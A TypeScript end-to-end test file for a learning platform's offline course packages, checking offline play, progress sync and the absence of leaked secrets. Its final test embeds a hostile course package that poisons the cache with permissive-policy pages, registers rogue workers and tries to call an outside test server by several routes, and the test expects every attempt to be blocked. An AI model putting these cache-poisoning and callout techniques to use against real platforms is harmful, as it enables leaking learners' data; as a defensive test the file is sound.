import { once } from 'node:events';
import { createServer } from 'node:http';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { shows, turn } from './golf.ts';
import { expectNoKeys, keep, keptQuestions } from './kept-course.ts';
import { allPairs } from './local-pairs.ts';
import { areThere, golf, importInto, importPage, packagePage } from './packages.ts';
import { setUp } from './setup.ts';
import { setUpPhone } from './without-network.ts';

// A product of its own, because these tests stop its server.
const on = setUp({});
const phone = setUpPhone(on);

const soon = { timeout: 15_000 };

/** Opens a course, shows its package, and keeps it as a learner does. */
async function keepPackage(page: Page, slug: string): Promise<void> {
  await page.goto(phone.at(`/my-learning/${slug}`));
  await packagePage(page).locator('body').waitFor({ state: 'attached' });
  await keep(page);
}

/** The frame of a package's page. */
const frameOf = (page: Page): Frame | undefined => page.frames().find((frame) => frame.url().includes('/c/'));

/** Everything in the caches of the package's origin: addresses, and the text of files that are not pictures. */
const keptThere = (frame: Frame | undefined) =>
  frame?.evaluate(async () => {
    const found: { url: string; text: string }[] = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys())
        found.push({ url: request.url, text: (await (await cache.match(request))?.text()) ?? '' });
    }
    return found;
  });

const waiting = async (page: Page) => Object.keys(await allPairs(page, 'rtw.scorm/')).length;

/** The unsent bookmarks on the phone. */
const bookmarks = async (page: Page) =>
  Object.entries(await allPairs(page, 'rtw.scorm/'))
    .filter(([key]) => key.endsWith('/cmi.core.lesson_location'))
    .map(([, bookmark]) => bookmark);

test('a course of ours that is a package is kept, played from a cold start without a network, and its progress is sent', async () => {
  const learner = await on.records.learner('Qhawe', 'Xulu');
  const [slug, module] = ['creative_thinking', 17];
  let page = await phone.start();
  await phone.signedIn(page, learner.email);
  await keepPackage(page, slug);
  const there = (await keptThere(frameOf(page))) ?? [];
  expect(there.map(({ url }) => new URL(url).pathname)).toEqual(
    expect.arrayContaining(['/p/player-1.2.html', '/p/keeper.html', '/kept/index.html', '/kept.json']),
  );
  const { base_url } = z
    .object({ base_url: z.string() })
    .parse(
      await (
        await page.request.get(phone.at(`/v1/scorm/launch/?module_name=${slug}`), await bearer(page))
      ).json(),
    );
  const signature = base_url.split('/').at(-2) ?? '';
  const all = JSON.stringify(there);
  for (const secret of [signature, learner.email, 'Qhawe', 'Xulu']) expect(all).not.toContain(secret);
  expectNoKeys(await keptQuestions(page));
  await phone.close();
  await on.product.kill();

  page = await phone.start();
  await page.goto(phone.at(`/my-learning/${slug}`));
  let course = packagePage(page);
  const heading = () => course.getByRole('heading', { level: 2 }).textContent();
  const turn = async () => {
    const before = await heading();
    await course.getByRole('button', { name: /^(Next|Chapter \d+)$/ }).click();
    await expect.poll(heading, soon).not.toBe(before);
  };
  await turn();
  await turn();
  await page
    .getByText(/kept on this device/)
    .first()
    .waitFor();
  const left = await heading();
  // The site gets the report of a slide a moment after the learner sees it.
  await expect.poll(() => bookmarks(page), soon).toEqual(['1-3']);
  await phone.close();
  page = await phone.start();
  await page.goto(phone.at(`/my-learning/${slug}`));
  course = packagePage(page);
  await expect.poll(heading, soon).toBe(left);
  await on.product.start();
  await page.goto(phone.at(`/my-learning/${slug}`));
  const stored = async () => (await on.records.scormPairs(learner.id, module)).course;
  await expect.poll(async () => (await stored())?.['cmi.core.lesson_location'], soon).toBeTruthy();
  await expect.poll(() => waiting(page), soon).toBe(0);
});

/** The header with which a page's own calls go. */
async function bearer(page: Page) {
  const session = await page.evaluate(() => localStorage.getItem('_artw') ?? '');
  return { headers: { authorization: `Bearer ${JSON.parse(session).access}` } };
}

/** Courses with pages, and where each stores the page. */
const paged = {
  basic_12: ['RuntimeBasicCalls_SCORM12', 'cmi.core.lesson_location'],
  basic_2004: ['RuntimeBasicCalls_SCORM20043rdEdition', 'cmi.location'],
  advanced_2004: ['RunTimeAdvancedCalls_SCORM20043rdEdition', 'cmi.location'],
  forced_2004: ['SequencingForcedSequential_SCORM20043rdEdition', 'cmi.location'],
} as const;

describe.skipIf(!areThere)('packages made by others', () => {
  const modules = new Map<string, number>();
  beforeAll(async () => {
    for (const [slug, [file]] of Object.entries(paged))
      modules.set(slug, await importInto(on.product, slug, golf(file)));
    modules.set(
      'minimum_12',
      await importInto(on.product, 'minimum_12', golf('RuntimeMinimumCalls_SCORM12')),
    );
  });

  test('five packages are kept, played from a cold start without a network, and their progress is sent', async () => {
    const learner = await on.records.learner();
    const stored = (slug: string) => on.records.scormPairs(learner.id, modules.get(slug) ?? 0);
    let page = await phone.start();
    await phone.signedIn(page, learner.email);
    for (const slug of modules.keys()) await keepPackage(page, slug);
    await phone.close();
    await on.product.kill();

    page = await phone.start();
    const course = packagePage(page);
    for (const slug of Object.keys(paged)) {
      await page.goto(phone.at(`/my-learning/${slug}`));
      await shows(course, 'Play of the game');
      await turn(course, 2);
    }
    await page.goto(phone.at('/my-learning/minimum_12'));
    await course.getByRole('heading', { name: 'Play of the game' }).waitFor();
    const lessons = page.getByRole('navigation', { name: 'Lessons' });
    await lessons.getByRole('button', { name: 'Next' }).click();
    await course.getByRole('heading', { name: 'Par', exact: true }).waitFor();
    await phone.close();

    await on.product.start();
    page = await phone.start();
    await page.goto(phone.at('/my-learning'));
    await expect.poll(() => waiting(page)).toBe(0);
    for (const [slug, [, location]] of Object.entries(paged)) {
      const places = Object.values(await stored(slug)).map((pairs) => pairs[location]);
      expect(places, slug).toContain('2');
    }
    expect(Object.keys(await stored('minimum_12'))).toHaveLength(2);
  });
});

/** A site that no editor has allowed, and what reached it. */
const reached: string[] = [];
const site = createServer((request, response) => {
  reached.push(`${request.method} ${request.url}`);
  response.setHeader('access-control-allow-origin', '*');
  response.end('a page of another site');
});
let elsewhere = '';
beforeAll(async () => {
  site.listen(0, '127.0.0.1');
  await once(site, 'listening');
  const address = site.address();
  elsewhere = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
});
afterAll(async () => {
  site.closeAllConnections();
  await new Promise((closed) => site.close(closed));
});

/** A package that, once kept, puts pages without a policy into the cache, and then tries to tell another site. */
const attack =
  () => `<!doctype html><title>A friendly course</title><h1>Hello</h1><pre id="said"></pre><script>
parent.API.LMSInitialize('');
const said = {};
const attempt = async (name, act) => {
  try { said[name] = String(await act()); } catch (error) { said[name] = 'refused'; }
};
const evil = (type, words) => new Response(words, { headers: {
  'content-type': type, 'content-security-policy': "default-src * 'unsafe-inline'", 'connection-allowlist': '("*")',
  'reporting-endpoints': 'x="${elsewhere}/reports"', link: '<${elsewhere}/linked>; rel=prefetch', refresh: '0; url=${elsewhere}/refreshed',
} });
const call = (to) => '<!doctype html><body><img src="${elsewhere}/' + to + '-img"><script>' +
  'fetch("${elsewhere}/' + to + '").then(() => parent.postMessage("out", "*"), () => parent.postMessage("held", "*"))<' + '/script>';
const framed = (address) => new Promise((heard) => {
  const frame = document.createElement('iframe');
  addEventListener('message', ({ data, source }) => source === frame.contentWindow && heard(data));
  setTimeout(() => heard('silent'), 6000);
  frame.src = address;
  document.body.append(frame);
});
window.poison = async () => {
  const cache = await caches.open('rtw-package');
  const root = location.origin + '/kept/';
  await cache.put(root + 'evil.html', evil('text/html', call('page')));
  await cache.put(root + 'evil.xhtml', evil('multipart/x-mixed-replace; boundary=x', call('mixed')));
  await cache.put(root + 'work.js', evil('text/javascript', 'fetch("${elsewhere}/worker").then(() => postMessage("out"), () => postMessage("held"))'));
  await cache.put(location.origin + '/p/evil.html', evil('text/html', call('player')));
  return 'done';
};
window.register = async () => {
  for (const script of ['worker.js', 'worker.js?/package-worker.js', '/package-worker.js?x', '/p/package-worker.js', '/files/x'])
    await attempt(script, () => navigator.serviceWorker.register(script).then(() => 'registered'));
  return Object.values(said).join();
};
window.attack = async () => {
  await attempt('page', () => framed('evil.html'));
  await attempt('mixed', () => framed('evil.xhtml'));
  await attempt('player', () => framed('/p/evil.html'));
  await attempt('worker', () => new Promise((heard) => { new Worker('work.js').onmessage = ({ data }) => heard(data); setTimeout(() => heard('silent'), 6000); }));
  const registration = await navigator.serviceWorker.getRegistration('/');
  await attempt('background fetch', () => registration.backgroundFetch.fetch('x', ['${elsewhere}/background']).then(() => 'started'));
  await attempt('push', () => registration.pushManager.subscribe({ userVisibleOnly: true }).then(() => 'subscribed'));
  await attempt('other caches', async () => (await caches.keys()).join());
  registration.active.postMessage({ kind: 'remove' });
  await attempt('fetch', () => fetch('${elsewhere}/fetch').then(() => 'out'));
  return said;
};
</script>`;

test('a kept package reaches no other site, whatever it puts into the cache', async () => {
  const learner = await on.records.learner();
  await importPage(on.product, 'poisoned', attack(), { 'worker.js': 'self.postMessage?.("")' });
  let page = await phone.start();
  await phone.signedIn(page, learner.email);
  await keepPackage(page, 'poisoned');
  const there = frameOf(page);
  expect(await there?.evaluate('poison()')).toBe('done');
  expect(await there?.evaluate('register()')).toBe('refused,refused,refused,refused,refused');
  await phone.close();
  await on.product.kill();
  reached.splice(0);

  page = await phone.start();
  await page.goto(phone.at('/my-learning/poisoned'));
  await packagePage(page).getByRole('heading', { name: 'Hello' }).waitFor();
  const outcome = await frameOf(page)?.evaluate('attack()');
  expect(outcome).toEqual({
    page: 'held',
    mixed: 'silent',
    player: 'held',
    worker: 'held',
    'background fetch': 'refused',
    push: 'refused',
    'other caches': 'rtw-package',
    fetch: 'refused',
  });
  expect(reached).toEqual([]);
  await on.product.start();
});
